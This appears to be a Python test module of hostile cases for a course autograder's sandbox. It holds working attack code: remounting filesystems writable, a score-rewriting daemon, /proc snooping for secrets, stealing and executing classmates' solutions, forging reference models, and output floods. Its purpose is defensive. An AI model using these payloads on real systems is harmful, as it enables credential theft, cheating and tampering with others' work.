"""Hostile cases of the isolation issue: what the sandbox must hide and hold.

Each attack reaches for something outside the submission's own working copy:
the mounts (remount them writable), the process table (a daemon that
outlives the run, the host's ``/proc`` with the grader's environment), the
file system (classmates' clones, the reference solution, the original model
the grader compares against), the import path (packages named like the
libraries the tests watch) and the outputs (huge texts and files). Written in
our own words; placeholders as in ``hostile_cases.py``.
"""

from __future__ import annotations

from hostile_cases import CODE_ITEMS, SUMMARY, Case
from hostile_payloads import _both_pipelines, _method, _module_patch

#: Remount every mount read-write (plainly, then from a new user namespace),
#: then write where that would have let it, and plant links in the output.
REMOUNT = """
def _hostile_remount():
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    MS_REMOUNT, MS_BIND = 32, 4096
    try:
        points = [line.split()[4] for line in open("/proc/self/mountinfo")]
    except OSError:
        points = []
    points += ["/", "@@GRADER@@", "@@OUT@@", "/usr"]
    for point in points:
        libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None)
        libc.mount(None, point.encode(), None, MS_REMOUNT, None)
    if libc.unshare(0x10000000 | 0x00020000) == 0:  # CLONE_NEWUSER | NEWNS
        for point in points:
            libc.mount(None, point.encode(), None, MS_REMOUNT | MS_BIND, None)
    for path in ("@@GRADER@@/grading/hostile-@@MARKER@@.txt",
                 "@@GRADER@@/grading/pipeline/scoring.py",
                 "@@OUT@@/hostile-@@MARKER@@.txt",
                 "/usr/hostile-@@MARKER@@.txt"):
        try:
            with open(path, "a", encoding="utf-8") as handle:
                handle.write("\\n# hostile @@MARKER@@\\n")
        except OSError:
            pass
    for link, target in (("@@OUT@@/@@SELF@@/gradescope", "@@GRADER@@/grading"),
                         ("@@OUT@@/@@SELF@@/report.html", "@@OUT@@/@@VICTIM@@/x")):
        try:
            os.makedirs(os.path.dirname(link), exist_ok=True)
            os.symlink(target, link)
        except OSError:
            pass
"""

#: A double-forked daemon with an EMPTY environment that keeps rewriting the
#: results of this submission and of a classmate for 150 s.
DAEMON = """
def _hostile_daemon():
    import os, sys
    code = (
        "import json, time\\n"
        "end = time.time() + 150\\n"
        "while time.time() < end:\\n"
        "    for name in ('@@OUT@@/@@SELF@@/results.json',\\n"
        "                 '@@OUT@@/@@VICTIM@@/results.json'):\\n"
        "        try:\\n"
        "            data = json.load(open(name))\\n"
        "            data['score'] = 18.0\\n"
        "            json.dump(data, open(name, 'w'))\\n"
        "        except Exception:\\n"
        "            pass\\n"
        "    time.sleep(2)\\n"
        "# @@MARKER@@\\n"
    )
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execve(sys.executable, [sys.executable, "-c", code], {})
        os._exit(0)
"""

#: Read every process's environment and command line it can see, and send
#: what looks like a secret or a classmate's folder out, plainly and encoded.
PROC_SNOOP = """
def _hostile_proc_snoop(*args, **kwargs):
    import base64, os
    found = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        for name in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, name), "rb") as handle:
                    raw = handle.read().replace(b"\\0", b" ")
                found.append(raw.decode("utf-8", "replace"))
            except OSError:
                pass
    text = "\\n".join(found)
    hits = [w for w in text.split() if "SECRET" in w or ".work" in w or "subs/" in w]
    print(text)
    encoded = base64.b64encode(text.encode()[:3000]).decode()
    raise RuntimeError("seen: " + " | ".join(hits[:40]) + " " + encoded)
"""

#: Look for classmates' clones and working copies and the reference
#: solution; run the first implemented one in place of this module's classes.
CLASSMATES = """
def _hostile_steal():
    import glob, os
    mine = os.path.abspath(__file__)
    tail = "dl_in_iot_course/l03_pruning_clustering/pruning_clustering_experiments.py"
    patterns = ["@@SUBS@@/*/" + tail,
                "@@OUT@@/.work/*/submission/" + tail,
                "/tmp/**/workcopy/" + tail,
                "@@ROOT@@/**/pruning_clustering_experiments.py",
                "@@GRADER@@/grading/private/reference/**/*.py"]
    stolen = {}
    for pattern in patterns:
        for name in glob.glob(pattern, recursive=True):
            if os.path.abspath(name) == mine:
                continue
            try:
                with open(name, encoding="utf-8") as handle:
                    stolen[name] = handle.read()
            except OSError:
                pass
    return stolen


def _hostile_use_stolen():
    for name, text in sorted(_hostile_steal().items()):
        if "class ClusteredModel" not in text or "self.num_clusters" not in text:
            continue
        space = {"__name__": "stolen", "__file__": name}
        try:
            exec(compile(text, name, "exec"), space)
        except Exception:
            continue
        for cls in ("TFMOTOptimizedModel", "ClusteredModel", "PrunedModel"):
            if cls in space:
                globals()[cls] = space[cls]
        return


def _hostile_send_out(*args, **kwargs):
    import base64, inspect, os, zlib
    texts = list(_hostile_steal().values())
    for frame in inspect.stack():
        name = os.path.abspath(frame.filename)
        if "hidden" in name or "tests" in name:
            try:
                with open(name, encoding="utf-8") as handle:
                    texts.append(handle.read())
            except OSError:
                pass
    packed = base64.b64encode(zlib.compress("\\n".join(texts).encode())).decode()
    raise RuntimeError("payload " + packed[:6000] + " hex " +
                       "\\n".join(texts).encode()[:2000].hex())
"""

#: Forge the original model: a 16-weight model of another architecture
#: written at the model path and over every other .tflite it can reach (the
#: copy of the original the tests gave), and a runner that outputs zeros.
FORGE_ORIGINAL = """
def _hostile_tiny_tflite(path, zeros=False):
    import tensorflow as tf
    import tf_keras
    inputs = tf_keras.Input((224, 224, 3))
    x = tf_keras.layers.GlobalAveragePooling2D()(inputs)
    init = "zeros" if zeros else "glorot_uniform"
    outputs = tf_keras.layers.Dense(4, kernel_initializer=init)(x)
    data = tf.lite.TFLiteConverter.from_keras_model(
        tf_keras.Model(inputs, outputs)).convert()
    with open(str(path), "wb") as handle:
        handle.write(data)


def _hostile_overwrite_originals(folder, zeros=False):
    import glob, json, os
    # Where the grader keeps its own copy: its contract says so.
    contract = json.loads(os.environ.get("GRADER_CONTRACT") or "{}")
    places = [folder, contract.get("masters") or folder, "/tmp"]
    names = {n for p in places for n in glob.glob(os.path.join(p, "*.tflite"))}
    for name in sorted(names):
        try:
            _hostile_tiny_tflite(name, zeros)
        except Exception:
            pass
"""

#: Everything huge: 64 MB on each stream, a sparse 400 MB model, a 10 MB
#: exception message.
HUGE = """
def _hostile_huge(self, *args, **kwargs):
    import sys
    sys.stdout.write("x" * (64 << 20))
    sys.stderr.write("y" * (64 << 20))
    path = getattr(self, "modelpath", None)
    if path:
        with open(str(path), "wb") as handle:
            handle.truncate(400 << 20)
    raise RuntimeError("z" * (10 << 20))
"""

_RUNNER_PREPARE = """
import os
from ai_edge_litert.interpreter import Interpreter
_hostile_tiny_tflite(self.modelpath, zeros=True)
_hostile_overwrite_originals(os.path.dirname(str(self.modelpath)), zeros=True)
self.interpreter = Interpreter(model_path=str(self.modelpath))
self.interpreter.allocate_tensors()
"""
_RUNNER_INFER = """
import numpy as np
inp = self.interpreter.get_input_details()[0]
self.interpreter.set_tensor(inp["index"], np.asarray(self._x, dtype=np.float32))
self.interpreter.invoke()
out = self.interpreter.get_output_details()[0]
return self.interpreter.get_tensor(out["index"])
"""
_FORGE_VARIANT = """
import os
_hostile_tiny_tflite(self.modelpath)
_hostile_overwrite_originals(os.path.dirname(str(self.modelpath)))
"""

#: A notebook whose one markdown cell is 4 MB of brackets.
_NOTEBOOK = (
    "summaries/l03_pruning_clustering/summary.ipynb",
    '{"cells": [{"cell_type": "markdown", "metadata": {}, "source": "',
    '"}], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}',
)
#: A summary whose heading and numbers carry invisible characters.
_INVISIBLE_SUMMARY = (
    "# Summary\n\n## \u202eclustered-2-fp32\n\n"
    "- de\u200bflated 9\u200d1%\n- Accu\u00adracy: 0.8\n"
)

_SHADOW = (
    'raise ImportError("SHADOW-@@MARKER@@: the submission\'s copy was imported")\n'
)


def _all_methods(body: str) -> tuple[str, ...]:
    return (
        _method("TFMOTOptimizedModel", "prepare_model", body),
        _method("ClusteredModel", "compress_and_fine_tune", body),
        _method("PrunedModel", "compress_and_fine_tune", body),
    )


ISOLATION_CASES: tuple[Case, ...] = (
    Case(
        id="remount_and_write",
        attack="remounts every mount read-write (also from a new user "
        "namespace), then writes into the grader's code and the batch output "
        "and plants symbolic links there",
        edits=(
            _module_patch(
                REMOUNT,
                "_hostile_remount()",
                *_all_methods("_hostile_remount()\nraise SystemExit(0)"),
            ),
        ),
    ),
    Case(
        id="daemon_empty_env",
        attack="a double-forked daemon with an empty environment that keeps "
        "rewriting its own and a classmate's results.json for 150 s",
        edits=(_module_patch(DAEMON, "_hostile_daemon()"),),
    ),
    Case(
        id="host_proc_secrets",
        attack="reads the environment and command line of every process it "
        "can see and raises what looks like a secret or a classmate's folder, "
        "plainly and base64-encoded",
        edits=(_module_patch(PROC_SNOOP, *_all_methods("_hostile_proc_snoop()")),),
    ),
    Case(
        id="read_classmates",
        attack="looks for classmates' clones and working copies and the "
        "reference, runs the first implemented one as its own, and sends "
        "what it read out compressed, base64- and hex-encoded",
        edits=(
            _module_patch(
                CLASSMATES,
                "_hostile_use_stolen()",
                _method("TFMOTOptimizedModel", "run_inference", "_hostile_send_out()"),
            ),
        ),
    ),
    Case(
        id="forge_original",
        attack="overwrites the original model the tests gave with a zero "
        "model (and its runner outputs zeros), and ships a 16-weight model of "
        "another architecture written over every .tflite it can reach",
        edits=(
            _module_patch(
                FORGE_ORIGINAL,
                _method("TFMOTOptimizedModel", "prepare_model", _RUNNER_PREPARE),
                _method("TFMOTOptimizedModel", "preprocess_input", "self._x = args[0]"),
                _method("TFMOTOptimizedModel", "run_inference", _RUNNER_INFER),
                _method("TFMOTOptimizedModel", "postprocess_outputs", "return args[0]"),
                _method("ClusteredModel", "compress_and_fine_tune", _FORGE_VARIANT),
                _method("PrunedModel", "compress_and_fine_tune", _FORGE_VARIANT),
            ),
        ),
        seen=r"original|architecture|layers|derive",
    ),
    Case(
        id="shadow_packages",
        attack="ships tensorflow_model_optimization/ and tf_keras/ folders at "
        "its root (they raise when imported) beside an honest pipeline",
        edits=(
            ("write", "tensorflow_model_optimization/__init__.py", _SHADOW),
            ("write", "tf_keras/__init__.py", _SHADOW),
            _module_patch(_both_pipelines()),
        ),
        faked=(),
        earns=("clustered_model", "pruned_model"),
        absent=r"SHADOW-",
        seen=r"shadow_package|named like installed packages",
        no_reference_leak=False,
    ),
    Case(
        id="huge_outputs",
        attack="64 MB on stdout and stderr, a sparse 400 MB model file and a "
        "10 MB exception message in every class",
        edits=(_module_patch(HUGE, *_all_methods("return _hostile_huge(self)")),),
        faked=CODE_ITEMS,
    ),
    # Inputs: what the summary and history readers must read in bounded time
    # and refuse by name. Stub code: the code items earn nothing anyway.
    Case(
        id="huge_inputs",
        attack="a summary of 2 MB of '[' committed with a 10 MB subject",
        edits=(
            ("repeat", SUMMARY, "[", 2_000_000),
            (
                "commit",
                "l03_pruning_clustering: Write the summary",
                " and more",
                1_200_000,
            ),
        ),
        # deflation: no number can be read from brackets. The subject is
        # past what anyone reads as one (unreadable_chars): generic.
        faked=(*CODE_ITEMS, "deflation"),
        codes=(r"^summary\.file too_complex$", r"^history\.generic_message "),
        seen=r"max_parse_steps",
    ),
    Case(
        id="huge_notebook",
        attack="a 4 MB notebook as the summary: one markdown cell of brackets",
        edits=(("repeat", _NOTEBOOK[0], "[", 4_000_000, *_NOTEBOOK[1:]),),
        faked=(*CODE_ITEMS, "deflation"),
        codes=(r"^summary\.file too_complex$",),
        seen=r"max_parse_steps",
    ),
    Case(
        id="invisible_text",
        attack="commit subjects that are generic once zero-width characters, a "
        "byte-order mark, a soft hyphen and a right-to-left override are "
        "removed, and a summary whose heading and numbers carry them",
        edits=(
            ("write", SUMMARY, _INVISIBLE_SUMMARY),
            ("commit", "Up\u200bdate"),
            ("write", "notes.txt", "one\n"),
            ("commit", "u\u200dp\u200cdate"),
            ("append", "notes.txt", "two\n"),
            ("commit", "\ufeffWIP"),
            ("append", "notes.txt", "three\n"),
            ("commit", "f\u00adix"),
            ("append", "notes.txt", "four\n"),
            ("commit", "\u202eetadpu"),
        ),
        # git_history: four of the five subjects (of six commits, should the
        # template's count) are generic: at least 1.75 x 4/6 = 1.17, and
        # invisible characters 0.5 (the cap), so at most 0.33 of 2 is left.
        at_most=(("git_history", 0.5),),
        codes=(
            r"^history\.generic_message ",
            r"^history\.invisible_characters ",
            r"^summary\.file invisible_characters$",
        ),
        seen=r"zero width space",
    ),
    Case(
        id="dash_folder_name",
        attack="a folder named like an option and a sum ('-2+3'): it must not "
        "stop the class's batch",
        edits=(),
        folder="-2+3",
        not_graded="starts with a dash",
    ),
)
